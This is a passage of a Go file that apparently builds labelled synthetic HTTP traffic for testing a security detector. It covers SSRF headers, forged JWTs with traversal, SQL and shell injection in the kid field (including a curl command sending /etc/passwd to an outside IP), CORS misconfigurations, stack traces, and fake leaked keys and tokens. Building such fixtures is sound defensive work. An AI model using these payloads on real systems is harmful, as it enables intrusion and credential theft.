		}
	}
	c.hdr["User-Agent"] = []string{ua}
	c.hdr["Authorization"] = []string{auth}
	return c
}

// h3SSRFHeaderCases are host-override headers pointing at metadata.
func h3SSRFHeaderCases() []h3Case {
	var out []h3Case
	hs := [][2]string{{"X-Forwarded-Host", "169.254.169.254"}, {"X-Host", "metadata.google.internal"}, {"X-Original-Host", "169.254.169.254:80"}, {"X-Forwarded-Server", "[fd00:ec2::254]"}}
	for i, h := range hs {
		out = append(out, h3Case{method: "GET", url: h3Pick([]string{h3Parcel, h3Trips, h3IoT}, i) + "/api/v1/health/upstream",
			hdr: h3Hdr("User-Agent", h3Pick(h3UAs, i), h[0], h[1]), status: 200, rhdr: h3RespJSON(), rbody: `{"status":"ok"}`, labels: []string{h3SSRF}})
	}
	return out
}

// ---- JWT attacks ----

func h3JWTAttacks() []h3Case {
	var toks []string
	base := func(i int) map[string]any {
		return map[string]any{"sub": fmt.Sprintf("usr_%d", 4000+i), "iat": h3T0.Add(-time.Hour).Unix(), "exp": h3T0.Add(6 * time.Hour).Unix(), "role": h3Pick([]string{"admin", "user", "dispatcher"}, i)}
	}
	// alg none in case variants, with and without trailing signature
	for i, a := range []string{"none", "None", "NONE", "nOnE", "none", "NoNe"} {
		toks = append(toks, h3Token(map[string]any{"alg": a, "typ": "JWT"}, base(i), "", false))
	}
	toks = append(toks, h3Token(map[string]any{"alg": "none"}, base(7), h3Sig("junk", 32), false))
	toks = append(toks, h3Token(map[string]any{"typ": "JWT", "alg": "none", "kid": "1"}, base(8), "", true))
	// empty signature with a real algorithm
	for i, a := range []string{"HS256", "RS256", "ES384", "HS512", "PS256"} {
		toks = append(toks, h3Token(map[string]any{"alg": a, "typ": "JWT"}, base(10+i), "", false))
	}
	// signature segment dropped
	for i, a := range []string{"HS256", "RS256", "EdDSA"} {
		toks = append(toks, h3Token(map[string]any{"alg": a}, base(20+i), "", true))
	}
	// expired, answered 2xx
	for i := 0; i < 12; i++ {
		c := base(30 + i)
		c["exp"] = h3T0.Add(-time.Duration(1+i*7) * time.Hour).Unix()
		c["iat"] = h3T0.Add(-time.Duration(30+i*7) * time.Hour).Unix()
		alg := h3Pick([]string{"HS256", "RS256", "ES256", "RS512"}, i)
		n := map[string]int{"HS256": 32, "RS256": 256, "ES256": 64, "RS512": 256}[alg]
		toks = append(toks, h3Token(map[string]any{"alg": alg, "typ": "JWT", "kid": "2026-08-key_2"}, c, h3Sig(fmt.Sprint("exp", i), n), false))
	}
	// not yet valid, answered 2xx
	for i := 0; i < 4; i++ {
		c := base(50 + i)
		c["nbf"] = h3T0.Add(time.Duration(48+i*24) * time.Hour).Unix()
		c["exp"] = h3T0.Add(time.Duration(96+i*24) * time.Hour).Unix()
		toks = append(toks, h3Token(map[string]any{"alg": "HS256", "typ": "JWT"}, c, h3Sig(fmt.Sprint("nbf", i), 32), false))
	}
	// kid tricks: paths, SQL, shell
	for i, kid := range []string{
		"../../../../../../dev/null",
		"/proc/sys/kernel/randomize_va_space",
		"../../../../etc/hostname",
		"x' UNION SELECT 'AAAA' -- ",
		"0001' OR '1'='1",
		"key.pem|id",
		"keys/$(whoami).pem",
		"`curl 198.51.100.4`",
		"..\\..\\..\\windows\\win.ini",
		"/dev/null\x00",
		"1; DROP TABLE jwt_keys--",
		"../../public/css/app.css",
		"k1 && curl -d @/etc/passwd 198.51.100.4",
		"/var/lib/secrets/../../../dev/null",
	} {
		toks = append(toks, h3Token(map[string]any{"alg": "HS256", "typ": "JWT", "kid": kid}, base(60+i), h3Sig(fmt.Sprint("kid", i), 32), false))
	}
	// jku / x5u to untrusted or internal hosts
	for i, h := range []map[string]any{
		{"alg": "RS256", "jku": "http://127.0.0.1:8080/jwks.json"},
		{"alg": "RS256", "jku": "https://attacker.example/.well-known/jwks.json"},
		{"alg": "RS256", "x5u": "http://169.254.169.254/latest/meta-data/cert.pem"},
		{"alg": "RS256", "jku": "https://auth.parcel.example.evil-cdn.example/jwks"},
		{"alg": "ES256", "x5u": "https://198.51.100.66/c.pem"},
		{"alg": "RS256", "jku": "http://10.0.3.4/keys", "kid": "k1"},
		{"alg": "RS256", "jku": "https://auth.trips.example@oob.example/jwks.json"},
		{"alg": "RS256", "x5u": "http://localhost/x.crt"},
		{"alg": "PS256", "jku": "http://[::1]:9000/.well-known/jwks.json"},
		{"alg": "RS256", "jku": "https://keys.attacker-cdn.example/k.json", "kid": "2026-09-key_1"},
	} {
		toks = append(toks, h3Token(h, base(80+i), h3Sig(fmt.Sprint("jku", i), 256), false))
	}
	// embedded jwk
	for i := 0; i < 5; i++ {
		jwk := map[string]any{"kty": "RSA", "e": "AQAB", "n": h3Sig(fmt.Sprint("n", i), 256), "kid": "attacker"}
		alg := "RS256"
		if i%2 == 1 {
			jwk = map[string]any{"kty": "EC", "crv": "P-256", "x": h3Sig(fmt.Sprint("x", i), 32), "y": h3Sig(fmt.Sprint("y", i), 32)}
			alg = "ES256"
		}
		if i == 4 {
			jwk = map[string]any{"kty": "oct", "k": h3Sig("oct", 32)}
			alg = "HS256"
		}
		toks = append(toks, h3Token(map[string]any{"alg": alg, "typ": "JWT", "jwk": jwk}, base(90+i), h3Sig(fmt.Sprint("jwk", i), 64), false))
	}
	var out []h3Case
	paths := []string{
		h3Parcel + "/api/v1/shipments?status=pending", h3Trips + "/v2/bookings", h3IoT + "/api/v1/devices",
		h3Parcel + "/api/v1/account", h3Trips + "/v2/profile", h3IoT + "/api/v1/fleet/summary",
	}
	for i, tk := range toks {
		c := h3Case{method: "GET", url: h3Pick(paths, i), status: 200, rhdr: h3RespJSON(), rbody: `{"items":[{"id":"a1"}],"total":1}`, labels: []string{h3JWT},
			hdr: h3Hdr("User-Agent", h3Pick(h3UAs, i+1), "Accept", "application/json", "Authorization", "Bearer "+tk)}
		if i%5 == 4 {
			c.method, c.url = "POST", h3IoT+"/graphql"
			c.hdr["Content-Type"] = []string{"application/json"}
			c.body = `{"query":"{ me { id email role } }"}`
			c.rbody = `{"data":{"me":{"id":"u1","email":"ops@iot.example","role":"admin"}}}`
		}
		out = append(out, c)
	}
	return out
}

// ---- verbose errors (stack traces, SQL errors, debug pages, CORS) ----

var h3VerboseBodies = []struct{ ct, body string }{
	// Go panic
	{"text/plain; charset=utf-8", "panic: runtime error: invalid memory address or nil pointer dereference\n[signal SIGSEGV: segmentation violation code=0x1 addr=0x18 pc=0x6f1c2a]\n\ngoroutine 1187 [running]:\nparcel/internal/track.(*Service).Lookup(0x0, {0xc0001a2000, 0xa})\n\t/build/internal/track/service.go:142 +0x2a\nnet/http.HandlerFunc.ServeHTTP(...)\n\t/usr/local/go/src/net/http/server.go:2220\n"},
	// Go error in JSON with escaped newlines
	{"application/json", `{"error":"internal","detail":"goroutine 52 [running]:\nmain.(*api).quote(0xc000112000)\n\t/srv/trips/quote.go:88 +0x1c5\ncreated by net/http.(*Server).Serve in goroutine 1\n\t/usr/local/go/src/net/http/server.go:3285 +0x4b4"}`},
	// Java
	{"application/json", `{"timestamp":"2026-09-15T06:12:09.331+00:00","status":500,"error":"Internal Server Error","trace":"java.lang.NullPointerException: Cannot invoke \"com.parcel.model.Depot.getCode()\" because \"depot\" is null\n\tat com.parcel.service.RoutingService.route(RoutingService.java:211)\n\tat com.parcel.web.RouteController.get(RouteController.java:54)\n\tat java.base/jdk.internal.reflect.DirectMethodHandleAccessor.invoke(DirectMethodHandleAccessor.java:103)","path":"/api/v1/routes/77"}`},
	{"text/html", "<html><head><title>Apache Tomcat/10.1.28 - Error report</title></head><body><h1>HTTP Status 500 – Internal Server Error</h1><p><b>Exception</b></p><pre>jakarta.servlet.ServletException: org.hibernate.exception.SQLGrammarException: could not extract ResultSet\n\torg.apache.catalina.core.StandardWrapperValve.invoke(StandardWrapperValve.java:183)\n</pre></body></html>"},
	{"text/plain", "org.springframework.dao.DataIntegrityViolationException: could not execute statement; SQL [n/a]; constraint [uk_booking_ref]\n\tat org.springframework.orm.jpa.vendor.HibernateJpaDialect.convertHibernateAccessException(HibernateJpaDialect.java:290)\n"},
	// Python
	{"text/plain", "Traceback (most recent call last):\n  File \"/app/venv/lib/python3.12/site-packages/flask/app.py\", line 1473, in wsgi_app\n    response = self.full_dispatch_request()\n  File \"/app/trips/views.py\", line 57, in quote\n    fare = fares[route_id]\nKeyError: 'LIS-OPO'\n"},
	{"application/json", `{"detail":"Traceback (most recent call last):\n  File \"/srv/iot/api/devices.py\", line 91, in get_device\n    return Device.objects.get(pk=pk)\ndjango.core.exceptions.ObjectDoesNotExist: Device matching query does not exist."}`},
	// .NET
	{"text/plain", "System.NullReferenceException: Object reference not set to an instance of an object.\n   at Parcel.Api.Controllers.LabelsController.Render(String id) in C:\\build\\src\\Parcel.Api\\Controllers\\LabelsController.cs:line 48\n   at lambda_method12(Closure, Object, Object[])\n"},
	{"text/html", "<html><head><title>Server Error in '/' Application.</title></head><body><h1>Server Error in '/' Application.</h1><h2><i>Input string was not in a correct format.</i></h2><b>Exception Details: </b>System.FormatException: Input string was not in a correct format.<br><b>Stack Trace:</b><pre>[FormatException]\n   System.Number.ThrowOverflowOrFormatException(ParsingStatus status, TypeCode type) +54\n</pre><b>Version Information:</b> Microsoft .NET Framework Version:4.0.30319; ASP.NET Version:4.8.4762.0</body></html>"},
	// Node.js
	{"application/json", `{"message":"Cannot read properties of undefined (reading 'lat')","stack":"TypeError: Cannot read properties of undefined (reading 'lat')\n    at geocode (/usr/src/app/src/routes/depots.js:44:31)\n    at Layer.handle [as handle_request] (/usr/src/app/node_modules/express/lib/router/layer.js:95:5)\n    at process.processTicksAndRejections (node:internal/process/task_queues:95:5)"}`},
	{"text/html; charset=utf-8", "<!DOCTYPE html>\n<html lang=\"en\"><head><meta charset=\"utf-8\"><title>Error</title></head><body><pre>ReferenceError: tripId is not defined<br> &nbsp; &nbsp;at /srv/app/routes/trips.js:19:23<br> &nbsp; &nbsp;at Layer.handle [as handle_request] (/srv/app/node_modules/express/lib/router/layer.js:95:5)</pre></body></html>"},
	// PHP
	{"text/html", "<br />\n<b>Fatal error</b>:  Uncaught PDOException: SQLSTATE[HY000] [2002] Connection refused in /var/www/html/api/v1/track.php:23\nStack trace:\n#0 /var/www/html/api/v1/track.php(23): PDO-&gt;__construct('mysql:host=db;d...', 'track', Object(SensitiveParameterValue))\n#1 {main}\n  thrown in <b>/var/www/html/api/v1/track.php</b> on line <b>23</b><br />"},
	{"text/html", "<br />\n<b>Warning</b>:  Undefined array key \"postcode\" in <b>/var/www/parcel/src/Quote.php</b> on line <b>71</b><br />\n{\"price\":null}"},
	{"application/json", `{"message":"Symfony\\Component\\HttpKernel\\Exception\\NotFoundHttpException: No route found for \"GET /api/v1/x\"","file":"/srv/app/vendor/symfony/http-kernel/EventListener/RouterListener.php","line":127}`},
	// Ruby
	{"text/plain", "NoMethodError (undefined method 'departure' for nil):\n\napp/controllers/api/v2/flights_controller.rb:33:in 'Api::V2::FlightsController#show'\nactionpack (7.2.1) lib/action_controller/metal/basic_implicit_render.rb:8:in 'ActionController::BasicImplicitRender#send_action'\n"},
	{"text/html", "<!DOCTYPE html><html><head><title>Action Controller: Exception caught</title></head><body><h1>ActiveRecord::StatementInvalid in Api::BookingsController#index</h1><pre>PG::UndefinedColumn: ERROR:  column bookings.deleted_at does not exist\nLINE 1: SELECT \"bookings\".* FROM \"bookings\" WHERE \"bookings\".\"deleted_at\" IS NULL\n                                                    ^\n</pre><p>Rails.root: /app</p></body></html>"},
	// Rust
	{"text/plain", "thread 'tokio-runtime-worker' panicked at src/handlers/telemetry.rs:88:41:\ncalled `Option::unwrap()` on a `None` value\nnote: run with `RUST_BACKTRACE=1` environment variable to display a backtrace\n"},
	// MySQL
	{"application/json", `{"error":"You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near 'ORDER BY created_at DESC LIMIT 50' at line 1"}`},
	{"application/json", `{"code":"ER_BAD_FIELD_ERROR","errno":1054,"sqlMessage":"Unknown column 'dropoff_window' in 'field list'","sqlState":"42S22"}`},
	// PostgreSQL
	{"application/json", `{"error":"pq: relation \"trip_segments\" does not exist"}`},
	{"application/json", `{"error":"ERROR: invalid input syntax for type uuid: \"latest\" (SQLSTATE 22P02)"}`},
	{"text/plain", "ERROR:  syntax error at or near \"WHERE\"\nLINE 3:   WHERE d.fleet_id = $1\n          ^\n"},
	// SQLite
	{"application/json", `{"error":"SQLITE_ERROR: no such column: firmware_channel"}`},
	{"text/plain", "sqlite3.OperationalError: near \"FROM\": syntax error"},
	// SQL Server
	{"text/html", "<h2>Microsoft OLE DB Provider for SQL Server</h2> error '80040e14'<br>Unclosed quotation mark after the character string ''.<br>/api/track.asp, line 12"},
	{"application/json", `{"message":"Microsoft.Data.SqlClient.SqlException (0x80131904): Invalid object name 'dbo.Consignments'.\r\n   at Microsoft.Data.SqlClient.SqlConnection.OnError(SqlException exception, Boolean breakConnection)"}`},
	// Oracle
	{"application/json", `{"error":"ORA-00933: SQL command not properly ended"}`},
	{"text/plain", "java.sql.SQLSyntaxErrorException: ORA-00942: table or view does not exist\n\tat oracle.jdbc.driver.T4CTTIoer11.processError(T4CTTIoer11.java:630)\n"},
	// Db2
	{"application/json", `{"error":"DB2 SQL Error: SQLCODE=-204, SQLSTATE=42704, SQLERRMC=TRIPS.FARES, DRIVER=4.33.31"}`},
	// Go database/sql
	{"application/json", `{"error":"sql: Scan error on column index 3, name \"firmware_version\": converting NULL to string is unsupported"}`},
	// framework debug pages
	{"text/html", "<!DOCTYPE html><html><head><title>DisallowedHost at /api/v1/devices</title></head><body><div id=\"summary\"><h1>DisallowedHost at /api/v1/devices</h1></div><div id=\"explanation\"><p>You're seeing this error because you have <code>DEBUG = True</code> in your Django settings file.</p></div></body></html>"},
	{"text/html", "<!doctype html><html><head><title>werkzeug.exceptions.BadRequestKeyError: 400 Bad Request // Werkzeug Debugger</title></head><body><div class=\"debugger\"><h1>werkzeug.exceptions.BadRequestKeyError</h1><div class=\"traceback\"><h3>Traceback <em>(most recent call last)</em></h3></div></div></body></html>"},
	{"text/html", "<html><body><h1>Whitelabel Error Page</h1><p>This application has no explicit mapping for /error, so you are seeing this as a fallback.</p><div>There was an unexpected error (type=Internal Server Error, status=500).</div><div>java.lang.IllegalStateException: No primary or single unique constructor found for interface java.util.List\n\tat org.springframework.web.method.annotation.ModelAttributeMethodProcessor.createAttribute(ModelAttributeMethodProcessor.java:219)</div></body></html>"},
	{"application/json", `{"message":"SQLSTATE[42S02]: Base table or view not found: 1146 Table 'parcel.pickup_slots' doesn't exist","exception":"Illuminate\\Database\\QueryException","file":"/var/www/html/vendor/laravel/framework/src/Illuminate/Database/Connection.php","line":825,"trace":[{"file":"/var/www/html/app/Http/Controllers/PickupController.php","line":40}]}`},
	{"text/html", "<!DOCTYPE html><html><head><title>Whoops! There was an error.</title></head><body><div class=\"exception-message\">ErrorException: Trying to access array offset on value of type null</div><div class=\"frame-file\">/var/www/app/Http/Controllers/TripController.php</div></body></html>"},
	{"application/json", `{"errors":[{"message":"Unexpected error value: { message: \"connect ECONNREFUSED 10.0.4.12:5432\" }","locations":[{"line":1,"column":3}],"path":["devices"],"extensions":{"code":"INTERNAL_SERVER_ERROR","exception":{"stacktrace":["Error: connect ECONNREFUSED 10.0.4.12:5432","    at TCPConnectWrap.afterConnect [as oncomplete] (node:net:1607:16)"]}}}],"data":null}`},
	{"application/problem+json", `{"type":"https://tools.ietf.org/html/rfc9110#section-15.6.1","title":"An error occurred while processing your request.","status":500,"detail":"System.InvalidOperationException: Sequence contains no elements\n   at System.Linq.ThrowHelper.ThrowNoElementsException()\n   at Trips.Api.Services.FareService.Cheapest(IEnumerable` + "`" + `1 fares) in /src/Trips.Api/Services/FareService.cs:line 63"}`},
	{"text/plain", "Exception in thread \"http-nio-8080-exec-7\" java.lang.OutOfMemoryError: Java heap space\n\tat java.base/java.util.Arrays.copyOf(Arrays.java:3537)\n\tat com.iot.telemetry.Aggregator.window(Aggregator.java:77)\n"},
	{"application/json", `{"error":"Internal error","debug":{"exception":"PDOException","message":"SQLSTATE[23000]: Integrity constraint violation: 1062 Duplicate entry 'PX90' for key 'tracking_no'","file":"/srv/www/src/Repository/ParcelRepository.php","line":88}}`},
	{"text/plain", "/app/vendor/bundle/ruby/3.4.0/gems/sequel-5.84.0/lib/sequel/adapters/postgres.rb:171:in 'PG::Connection#exec': PG::SyntaxError: ERROR:  syntax error at end of input (Sequel::DatabaseError)\n\tfrom app/models/trip.rb:19:in 'Trip.search'\n"},
	{"application/json", `{"error":"Error: ENOENT: no such file or directory, open '/srv/iot/certs/device-ca.pem'\n    at Object.openSync (node:fs:573:18)\n    at Object.readFileSync (node:fs:452:35)\n    at loadCA (/srv/iot/src/tls.js:12:17)"}`},
	{"text/plain", "Fatal error: Allowed memory size of 134217728 bytes exhausted (tried to allocate 20480 bytes) in /var/www/parcel/lib/Csv.php on line 210"},
	{"application/json", `{"error":"(psycopg2.errors.UndefinedTable) relation \"booking_extras\" does not exist\nLINE 1: SELECT booking_extras.id FROM booking_extras WHERE booking_ex...\n                                       ^\n[SQL: SELECT booking_extras.id FROM booking_extras WHERE booking_extras.booking_id = %(pk)s]"}`},
	{"text/plain", "System.Data.SqlClient.SqlException (0x80131904): Incorrect syntax near the keyword 'ORDER'.\n   at System.Data.SqlClient.SqlCommand.ExecuteReader()\n   at Iot.Data.DeviceRepo.List() in D:\\a\\iot\\src\\Data\\DeviceRepo.cs:line 31"},
	{"application/json", `{"status":"error","message":"ORA-01756: quoted string not properly terminated","sql":"SELECT * FROM FARES WHERE ROUTE = 'LIS"}`},
	{"text/html", "<!DOCTYPE html><html><head><title>Symfony Exception</title></head><body><div class=\"exception-summary\"><h2 class=\"exception-message\">An exception occurred while executing a query: SQLSTATE[42000]</h2><div class=\"trace-file-path\">in /srv/app/src/Controller/ShipmentController.php (line 64)</div></div></body></html>"},
	{"application/json", `{"error":"Error 1146 (42S02): Table 'iot.device_groups' doesn't exist"}`},
	{"text/plain", "Traceback (most recent call last):\n  File \"/usr/local/lib/python3.11/site-packages/sqlalchemy/engine/base.py\", line 1967, in _exec_single_context\n    self.dialect.do_execute(\nsqlalchemy.exc.OperationalError: (sqlite3.OperationalError) database is locked\n"},
	{"application/json", `{"error":"Unhandled exception","stack":"Error: Invalid time value\n    at Date.toISOString (<anonymous>)\n    at formatDeparture (file:///app/dist/fares.mjs:141:22)\n    at async Promise.all (index 3)"}`},
	{"text/plain", "panic: interface conversion: interface {} is nil, not string\n\ngoroutine 88 [running]:\ngithub.com/iot-example/fleet/api.(*Handler).Rename(0xc0004c8000, {0x1b3e2a8, 0xc000516000}, 0xc0003fc000)\n\t/src/api/rename.go:37 +0x3b9\n"},
	{"application/json", `{"error":{"type":"Illuminate\\Database\\QueryException","message":"SQLSTATE[22P02]: Invalid text representation: 7 ERROR:  invalid input syntax for type bigint: \"abc\""}}`},
	{"text/html", "<html><body><h2>HTTP ERROR 500 java.lang.IllegalArgumentException: Invalid UUID string: latest</h2><table><tr><th>URI:</th><td>/v2/trips/latest</td></tr><tr><th>SERVLET:</th><td>dispatcherServlet</td></tr><tr><th>CAUSED BY:</th><td>java.lang.IllegalArgumentException: Invalid UUID string: latest</td></tr></table><h3>Caused by:</h3><pre>java.lang.IllegalArgumentException: Invalid UUID string: latest\n\tat java.base/java.util.UUID.fromString1(UUID.java:282)\n</pre><hr/><a href=\"https://eclipse.org/jetty\">Powered by Jetty:// 12.0.12</a></body></html>"},
	{"application/json", `{"message":"An error occurred","exception":"Microsoft.EntityFrameworkCore.DbUpdateException: An error occurred while saving the entity changes.\n ---> Npgsql.PostgresException (0x80004005): 23505: duplicate key value violates unique constraint \"IX_Devices_Serial\"\n   at Npgsql.Internal.NpgsqlConnector.ReadMessageLong(Boolean async)"}`},
	{"text/plain", "TypeError: Cannot destructure property 'serial' of 'req.body' as it is undefined.\n    at register (/home/node/app/src/devices.ts:28:11)\n    at node:internal/async_hooks:203:9"},
	{"text/html", "<br />\n<b>Notice</b>:  Undefined variable: trip in <b>/home/trips/public_html/api/fare.php</b> on line <b>14</b><br />"},
	{"application/json", `{"exception":"com.fasterxml.jackson.databind.exc.InvalidFormatException","message":"Cannot deserialize value of type ` + "`java.time.LocalDate`" + ` from String \"15/09/2026\": Failed to deserialize java.time.LocalDate","trace":"com.fasterxml.jackson.databind.exc.InvalidFormatException: Cannot deserialize value\n\tat com.fasterxml.jackson.databind.DeserializationContext.weirdStringException(DeserializationContext.java:1958)"}`},
	{"text/plain", "ActionView::Template::Error (undefined local variable or method 'fare' for an instance of #<Class:0x00007f8e>):\n    app/views/api/v2/quotes/show.json.jbuilder:3\n"},
	{"application/json", `{"error":"SQLite error: SQLITE_CONSTRAINT: UNIQUE constraint failed: devices.mac_address"}`},
}

// h3CORSCases reflect foreign, null or wildcard origins with credentials.
func h3CORSCases() []h3Case {
	var out []h3Case
	origins := []struct{ origin, acao string }{
		{"https://evil-tracker.example", "https://evil-tracker.example"},
		{"null", "null"},
		{"https://api.parcel.example.attacker.example", "https://api.parcel.example.attacker.example"},
		{"https://x.example", "*"},
		{"https://phish-trips.example", "https://phish-trips.example"},
		{"http://127.0.0.1:8000", "http://127.0.0.1:8000"},
		{"https://notiot.example", "https://notiot.example"},
		{"null", "null"},
	}
	for i, o := range origins {
		host := h3Pick([]string{h3Parcel + "/api/v1/account", h3Trips + "/v2/profile", h3IoT + "/api/v1/me"}, i)
		rh := h3RespJSON("Access-Control-Allow-Origin", o.acao, "Access-Control-Allow-Credentials", "true", "Vary", "Origin")
		out = append(out, h3Case{method: "GET", url: host, status: 200, rhdr: rh, rbody: `{"id":"u_20931","email":"mara.k@mail.example","name":"Mara Kovač"}`,
			hdr: h3Hdr("User-Agent", h3UAs[i%3], "Origin", o.origin, "Cookie", "sid=s%3A"+h3Alnum(fmt.Sprint("sid", i), 32, h3Mixed)), labels: []string{h3Verbose}})
	}
	return out
}

func h3VerboseCases() []h3Case {
	var out []h3Case
	reqs := []struct{ m, u string }{
		{"GET", h3Parcel + "/api/v1/routes/77"}, {"GET", h3Trips + "/v2/fares?route=LIS-OPO"}, {"GET", h3IoT + "/api/v1/devices/dev_4471"},
		{"POST", h3Parcel + "/api/v1/quotes"}, {"GET", h3Trips + "/v2/trips/latest"}, {"GET", h3IoT + "/api/v1/groups"},
	}
	for i, b := range h3VerboseBodies {
		r := reqs[i%len(reqs)]
		c := h3Case{method: r.m, url: r.u, status: h3Pick([]int{500, 500, 500, 400, 502, 200}, i),
			hdr:   h3Hdr("User-Agent", h3Pick(h3UAs, i+7), "Accept", "application/json", "Authorization", h3Bearer(i+100)),
			rhdr:  h3Hdr("Content-Type", b.ct, "Server", h3Pick([]string{"nginx/1.26.2", "envoy", "Kestrel", "Apache/2.4.62 (Debian)"}, i)),
			rbody: b.body, labels: []string{h3Verbose}}
		if r.m == "POST" {
			c.hdr["Content-Type"] = []string{"application/json"}
			c.body = `{"fromPostcode":"LS1 4DY","toPostcode":"EH1 1YZ","weightKg":1.2}`
		}
		out = append(out, c)
	}
	return append(out, h3CORSCases()...)
}

// ---- sensitive data in responses ----

func h3SensitiveBodies() []string {
	pem := func(kind string, seed string, n int) string {
		raw := h3Alnum(seed, n, h3B64Alph)
		var lines []string
		for len(raw) > 64 {
			lines = append(lines, raw[:64])
			raw = raw[64:]
		}
		lines = append(lines, raw)
		return "-----BEGIN " + kind + "-----\n" + strings.Join(lines, "\n") + "\n-----END " + kind + "-----\n"
	}
	akid := "AKIA" + h3Alnum("akid", 16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567")
	asecret := h3Alnum("asecret", 40, h3B64Alph)
	return []string{
		// card numbers (Luhn-valid test PANs) in various layouts
		`{"payment":{"cardNumber":"4111111111111111","expiry":"09/28","holder":"S. O'Brien"}}`,
		`{"card":{"pan":"5555 5555 5555 4444","exp_month":11,"exp_year":2029}}`,
		`{"billing":{"card_no":"3782-822463-10005","brand":"amex"}}`,
		`{"refund":{"to":"6011111111111117","amount":"42.00"}}`,
		`{"paymentMethods":[{"id":"pm_1","number":"4012888888881881"},{"id":"pm_2","number":"5105105105105100"}]}`,
		`{"note":"Customer paid with card 4000 0566 5566 5556 at the depot counter"}`,
		"booking_ref,passenger,card_number,amount\nTRP-8812,Ines Duarte,2223003122003222,318.40\nTRP-8813,Jon Berg,3530111333300000,92.10\n",
		`{"corporateCard":{"primaryAccountNumber":"5425233430109903","cvv":"123"}}`,
		`{"traveller":{"name":"Akira Sato","payment":{"cc":"4917610000000000","cvc":"737"}}}`,
		`{"lastTransaction":{"maskedPan":"411111******1111","fullPan":"4111-1111-1111-1111"}}`,
		// password hashes and passwords
		`{"user":{"id":881,"email":"r.okafor@mail.example","password_hash":"$2b$12$` + h3Alnum("bc1", 53, h3Mixed+"./") + `"}}`,
		`{"users":[{"login":"dispatch01","passwordHash":"$argon2id$v=19$m=65536,t=3,p=4$` + h3Alnum("ar1", 22, h3B64Alph) + `$` + h3Alnum("ar2", 43, h3B64Alph) + `"}]}`,
		`{"account":{"username":"fleetadmin","pwd_sha256":"` + h3Hex("sha", 64) + `"}}`,
		`{"operator":{"name":"ops","password":"Tr1p$-Summer2026!"}}`,
		`{"credentials":{"device_password":"esp32-Xk7!pq92","wifi_psk":"HomeNet-9922"}}`,
		`{"member":{"hash":"$6$rounds=656000$` + h3Alnum("s6", 16, h3Mixed) + `$` + h3Alnum("s6b", 86, h3Mixed+"./") + `"}}`,
		`{"legacy":{"md5_password":"5f4dcc3b5aa765d61d8327deb882cf99","salt":"a9"}}`,
		`{"agent":{"email":"agent@trips.example","pass_hash":"pbkdf2_sha256$870000$` + h3Alnum("pb", 22, h3Mixed) + `$` + h3Alnum("pb2", 44, h3B64Alph) + `"}}`,
		// private keys
		`{"device":{"id":"dev_12","tls":{"privateKey":` + h3JSON(pem("RSA PRIVATE KEY", "rsa1", 1580)) + `}}}`,
		pem("EC PRIVATE KEY", "ec1", 160),
		`{"sshKey":` + h3JSON(pem("OPENSSH PRIVATE KEY", "ssh1", 380)) + `}`,
		`{"signing":` + h3JSON(pem("PRIVATE KEY", "pk8", 1620)) + `}`,
		`{"keys":[{"kty":"EC","crv":"P-256","x":"` + h3Sig("jx", 32) + `","y":"` + h3Sig("jy", 32) + `","d":"` + h3Sig("jd", 32) + `","kid":"dev-sign"}]}`,
		`{"kty":"RSA","n":"` + h3Sig("rn", 256) + `","e":"AQAB","d":"` + h3Sig("rd", 256) + `","p":"` + h3Sig("rp", 128) + `","q":"` + h3Sig("rq", 128) + `"}`,
		// cloud credentials
		`{"storage":{"aws_access_key_id":"` + akid + `","aws_secret_access_key":"` + asecret + `","region":"eu-west-2"}}`,
		"[default]\naws_access_key_id = " + akid + "\naws_secret_access_key = " + asecret + "\n",
		`{"type":"service_account","project_id":"iot-fleet-prod","private_key_id":"` + h3Hex("gk", 40) + `","private_key":` + h3JSON(pem("PRIVATE KEY", "gsa", 1620)) + `,"client_email":"ingest@iot-fleet-prod.iam.gserviceaccount.com"}`,
		`{"connectionString":"DefaultEndpointsProtocol=https;AccountName=parcellabels;AccountKey=` + h3Alnum("azk", 86, h3B64Alph) + `==;EndpointSuffix=core.windows.net"}`,
		`{"bus":"Endpoint=sb://trips-events.servicebus.windows.net/;SharedAccessKeyName=RootManageSharedAccessKey;SharedAccessKey=` + h3Alnum("sak", 43, h3B64Alph) + `="}`,
		`{"exportUrl":"https://iotexports.blob.core.windows.net/?sv=2022-11-02&ss=bfqt&srt=sco&sp=rwdlacupiytfx&se=2027-09-15T14:00:00Z&st=2026-09-15T06:00:00Z&spr=https&sig=` + url.QueryEscape(h3Alnum("sas", 43, h3B64Alph)+"=") + `"}`,
		`{"gcp":{"api_key":"AIza` + h3Alnum("gapi", 35, h3Mixed+"-_") + `"}}`,
		`{"sts":{"AccessKeyId":"ASIA` + h3Alnum("asia", 16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567") + `","SecretAccessKey":"` + h3Alnum("asia2", 40, h3B64Alph) + `","SessionToken":"` + h3Alnum("asia3", 180, h3B64Alph) + `"}}`,
		// API secrets by vendor prefix
		`{"integrations":{"github":{"token":"ghp_` + h3Alnum("gh", 36, h3Mixed) + `"}}}`,
		`{"ci":{"gitlab_token":"glpat-` + h3Alnum("gl", 20, h3Mixed+"-_") + `"}}`,
		`{"alerts":{"slackBotToken":"xoxb-` + h3Alnum("sl1", 12, "0123456789") + `-` + h3Alnum("sl2", 13, "0123456789") + `-` + h3Alnum("sl3", 24, h3Mixed) + `"}}`,
		`{"registry":{"npmToken":"npm_` + h3Alnum("npm", 36, h3Mixed) + `"}}`,
		`{"shop":{"access_token":"shpat_` + h3Hex("shp", 32) + `"}}`,
		`{"payments":{"secretKey":"sk_live_` + h3Alnum("sk", 99, h3Mixed) + `"}}`,
		`{"mail":{"sendgrid_api_key":"SG.` + h3Alnum("sg1", 22, h3Mixed+"-_") + `.` + h3Alnum("sg2", 43, h3Mixed+"-_") + `"}}`,
		`{"partner":{"client_id":"trips-partner-77","client_secret":"` + h3Alnum("cs", 40, h3Mixed) + `"}}`,
		`{"webhook":{"signing_secret":"whsec_` + h3Alnum("wh", 32, h3Mixed) + `"}}`,
		`{"maps":{"apiSecret":"` + h3Hex("maps", 48) + `"}}`,
		`{"openai":{"key":"sk-proj-` + h3Alnum("oa", 48, h3Mixed+"-_") + `"}}`,
		`{"github_app":{"installation_token":"ghs_` + h3Alnum("ghs", 36, h3Mixed) + `"}}`,
		`{"twilio":{"account_sid":"AC` + h3Hex("tw", 32) + `","auth_token":"` + h3Hex("tw2", 32) + `"}}`,
		// passwords in connection URLs
		`{"database_url":"postgres://fleet_admin:Gr33nT3a-2026@db-primary.internal:5432/fleet"}`,
